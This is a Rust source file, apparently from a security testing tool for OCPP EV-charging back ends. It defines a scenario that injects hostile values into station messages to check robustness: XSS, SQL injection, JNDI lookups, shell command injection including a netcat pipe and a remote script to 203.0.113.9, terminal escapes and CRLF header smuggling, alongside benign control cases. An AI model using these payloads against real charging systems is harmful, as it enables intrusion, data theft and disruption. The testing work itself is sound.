//! S09: values that harm whoever reads them.

use serde_json::{Value, json};

use super::{half, lie, truth};
use crate::attack::line::order;
use crate::attack::{ALL, Attack, Entry, Kind, Order, Spot};
use crate::wire::report::{Event, authorize, start, status};
use crate::wire::{is_v16, merge, message, token};
use chargewarden_ocpp::Version;

/// What is poisonous in a token, and what it is.
const POISONS: [(&str, &str); 16] = [
    ("a script in a token", "<script>alert(1)"),
    ("an image in a token", "<img src=x onerror=a"),
    ("a query in a token", "' OR '1'='1"),
    ("a table dropped by a token", "';DROP TABLE tx;--"),
    ("a union in a token", "1 UNION SELECT 1--"),
    ("a look-up in a token", "${jndi:ldap://e}"),
    ("a template in a token", "{{7*7}}"),
    ("another template in a token", "#{7*7}"),
    ("a server's template in a token", "<%= 7*7 %>"),
    ("a shell in a token", "$(reboot)"),
    ("a shell's quotes in a token", "`id`"),
    ("a pipe in a token", "a|nc 203.0.113.9 1"),
    ("a terminal's orders in a token", "\u{1b}[2J\u{1b}[1;1H"),
    ("a line end in a token", "A\r\nINFO ok"),
    ("nothing in the middle of a token", "A\u{0}B"),
    ("writing turned round in a token", "A\u{202e}FDP"),
];

/// The entry.
pub(super) fn entry() -> Entry {
    let mut attacks: Vec<Attack> = POISONS
        .into_iter()
        .map(|(name, poison)| {
            Attack::new(name, ALL, move |play| {
                play.campaign_where(half, |play, place| {
                    let Some(spot) = play.spot(place) else { return };
                    play.strike_report(place, &order(authorize(spot.version, poison)));
                });
            })
        })
        .collect();
    attacks.extend([
        lie("a script where a session begins", ALL, half, |play, spot| {
            let at = play.world.time(0);
            let report = begun(spot, "<script>alert(1)", &at, 0);
            play.strike_report(spot.place, &report);
        }),
        lie("a year that no calendar has", ALL, half, |play, spot| {
            let report = begun(spot, "04A1B2C3", "9999-12-31T23:59:59Z", 0);
            play.strike_report(spot.place, &report);
        }),
        lie("a year before electricity", ALL, half, |play, spot| {
            let report = begun(spot, "04A1B2C3", "0001-01-01T00:00:00Z", 0);
            play.strike_report(spot.place, &report);
        }),
        lie("the beginning of all clocks", ALL, half, |play, spot| {
            let report = begun(spot, "04A1B2C3", "1970-01-01T00:00:00Z", 0);
            play.strike_report(spot.place, &report);
        }),
        lie("a status of the year 9999", ALL, half, |play, spot| {
            let report = order(status(spot.version, 1, "Faulted", "OtherError", "9999-12-31T23:59:59Z"));
            play.strike_report(spot.place, &report);
        }),
        lie("an EVSE beyond counting", ALL, half, |play, spot| {
            let report = order(status(spot.version, 2_147_483_647, "Faulted", "OtherError", &play.world.time(0)));
            play.strike_report(spot.place, &report);
        }),
        lie("an EVSE below nothing", &[Version::V16, Version::V201], half, |play, spot| {
            let report = order(status(spot.version, -1, "Faulted", "OtherError", &play.world.time(0)));
            play.strike_report(spot.place, &report);
        }),
        lie("a script in what a status says", &[Version::V16], half, |play, spot| {
            let mut report = status(spot.version, 1, "Faulted", "OtherError", &play.world.time(0));
            merge(&mut report.payload, json!({ "info": "<svg onload=alert(1)>" }));
            play.strike_report(spot.place, &order(report));
        }),
        lie("a query in a vendor's error", &[Version::V16], half, |play, spot| {
            let mut report = status(spot.version, 1, "Faulted", "OtherError", &play.world.time(0));
            merge(&mut report.payload, json!({ "vendorId": "Acme", "vendorErrorCode": "' UNION SELECT * FROM users--" }));
            play.strike_report(spot.place, &order(report));
        }),
        lie("a look-up where a station starts", ALL, half, |play, spot| {
            let report = plate(spot, |plate| merge(plate, json!({ "firmwareVersion": "${jndi:ldap://203.0.113.9/a}" })));
            play.strike_report(spot.place, &report);
        }),
        lie("a terminal's orders where a station starts", ALL, half, |play, spot| {
            let report = plate(spot, |plate| merge(plate, json!({ "firmwareVersion": "1.8.33\u{1b}]0;owned\u{7}" })));
            play.strike_report(spot.place, &report);
        }),
        lie("a script in a listed vendor's data", ALL, half, |play, spot| {
            let report = crate::wire::data::transfer(
                spot.version,
                "com.example.listed",
                Some("Note"),
                &json!("<script src=//203.0.113.9/x.js></script>"),
            );
            play.strike_report(spot.place, &order(report));
        }),
        lie("a script in an event", &[Version::V201, Version::V21], half, |play, spot| {
            let now = play.world.time(0);
            let report = order(message("NotifyEvent", json!({
                "generatedAt": now, "seqNo": 0, "eventData": [{
                    "eventId": 1, "timestamp": now, "trigger": "Alerting",
                    "actualValue": "<script>alert(document.cookie)</script>",
                    "component": { "name": "Connector" }, "variable": { "name": "Problem" },
                    "eventNotificationType": "HardWiredNotification",
                }],
            })));
            play.strike_report(spot.place, &report);
        }),
        lie("a line of its own in a customer's data", &[Version::V201, Version::V21], half, |play, spot| {
            let report = order(message("NotifyCustomerInformation", json!({
                "data": "name\r\nSet-Cookie: admin=1", "seqNo": 0, "generatedAt": play.world.time(0), "requestId": 1,
            })));
            play.strike_report(spot.place, &report);
        }),
    ]);
    Entry {
        id: "S09",
        name: "values that harm whoever reads them",
        versions: ALL,
        kind: Kind::Report,
        attacks,
        twins: vec![
            truth("plain identifiers", ALL, half, |play, spot| {
                for card in [
                    "04A1B2C3D4E5F6",
                    "NL-8AC-C12345678-9",
                    "DE*ABC*E123456*1",
                    "VID:001122AABBCC",
                    "user_42.b",
                ] {
                    let report = order(authorize(spot.version, card));
                    play.work_report(spot.place, &report);
                    play.wait_s(700);
                }
            }),
            truth("what technicians write", &[Version::V16], half, |play, spot| {
                for text in [
                    "Temp. 45 °C, fan at 80 %",
                    "Contactor K1 doesn't open",
                    "Schütz klemmt (K1)",
                    "RCD 6 mA > limit",
                ] {
                    let mut report = status(
                        spot.version,
                        i64::from(spot.free.unwrap_or(1)),
                        "Available",
                        "NoError",
                        &play.world.time(0),
                    );
                    merge(&mut report.payload, json!({ "info": text, "vendorId": "Acme GmbH & Co. KG" }));
                    play.work_report(spot.place, &order(report));
                    play.wait_s(300);
                }
            }),
            truth("an event with a value", &[Version::V201, Version::V21], half, |play, spot| {
                let now = play.world.time(0);
                let report = order(message(
                    "NotifyEvent",
                    json!({
                        "generatedAt": now, "seqNo": 0, "eventData": [{
                            "eventId": 1, "timestamp": now, "trigger": "Delta", "actualValue": "45.2",
                            "techInfo": "sensor T1: 45.2 > 45.0 (limit)",
                            "component": { "name": "Connector" }, "variable": { "name": "Temperature" },
                            "eventNotificationType": "HardWiredMonitor",
                        }],
                    }),
                ));
                play.work_report(spot.place, &report);
            }),
        ],
    }
}

fn begun(spot: &Spot, card: &str, at: &str, meter: i64) -> Order {
    let evse = i64::from(spot.free.unwrap_or(1));
    if is_v16(spot.version) {
        return order(start(evse, card, meter, at));
    }
    let name = json!("tx-poison-1");
    let event = Event {
        kind: "Started",
        trigger: "Authorized",
        transaction: &name,
        number: 0,
        at,
        charging: Some("Charging"),
    };
    order(event.with(json!({ "evse": { "id": evse, "connectorId": 1 }, "idToken": token(card) })))
}

fn plate(spot: &Spot, poison: fn(&mut Value)) -> Order {
    let mut report = crate::wire::report::boot(spot.version, "Acme", "Twin-22", "SN004200", "1.8.33");
    if is_v16(spot.version) {
        poison(&mut report.payload);
    } else if let Some(station) = report.payload.get_mut("chargingStation") {
        poison(station);
    }
    order(report)
}
